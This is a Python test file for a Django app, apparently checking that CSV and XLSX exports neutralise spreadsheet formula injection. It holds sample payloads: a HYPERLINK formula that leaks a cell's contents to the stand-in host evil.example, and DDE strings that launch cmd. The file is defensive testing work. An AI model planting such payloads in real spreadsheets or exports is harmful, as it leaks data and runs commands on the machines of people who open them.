"""Every CSV and XLSX we write shows formulas as text (OWASP's CSV-injection advice).

Defect 1 of issue 12: a source title `=HYPERLINK("http://evil.example/?d="&A2,"open")`
or evidence starting with =, +, -, @ came back as a live formula in the admin's XLSX
template and export and raw in their CSV versions; the public status and history CSVs
wrote requirement titles raw.
"""

import csv
import datetime as dt
import io

import openpyxl
import pytest

from alignment.models import Status
from tests import factories

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A2,"open")'
PAYLOADS = [HYPERLINK, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0"]


@pytest.fixture
def hostile(db):
    """One approved status on each requirement, whose titles are the payloads."""
    al = factories.country("AL", "Albania")
    fw = factories.framework("fw", countries=[al])
    for n, title in enumerate(PAYLOADS):
        requirement = factories.requirement(fw, f"r{n}", title=title)
        factories.change(al, requirement, Status.ADOPTED, on=dt.date(2018, 7, 31))


def neutralised(cells: list[str]) -> None:
    """Each payload shows as itself behind a quote; no cell starts a formula."""
    for payload in PAYLOADS:
        assert "'" + payload in cells
    assert not [c for c in cells if isinstance(c, str) and c[:1] in "=+-@"]


@pytest.mark.parametrize("name", ["status", "history"])
def test_public_csv_exports_neutralise_formulas(client, hostile, name):
    response = client.get(f"/export/{name}.csv")
    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    neutralised([cell for row in rows[1:] for cell in row])


@pytest.mark.parametrize("name", ["status", "history"])
def test_public_xlsx_exports_neutralise_formulas(client, hostile, name):
    response = client.get(f"/export/{name}.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    cells = [cell.value for row in book.active.iter_rows(min_row=2) for cell in row]
    neutralised(cells)


def test_numbers_stay_numbers(client, hostile):
    response = client.get("/export/status.xlsx")
    book = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    header = [cell.value for cell in book.active[1]]
    scores = [row[header.index("score")].value for row in book.active.iter_rows(min_row=2)]
    assert scores == [75, 75, 75, 75]
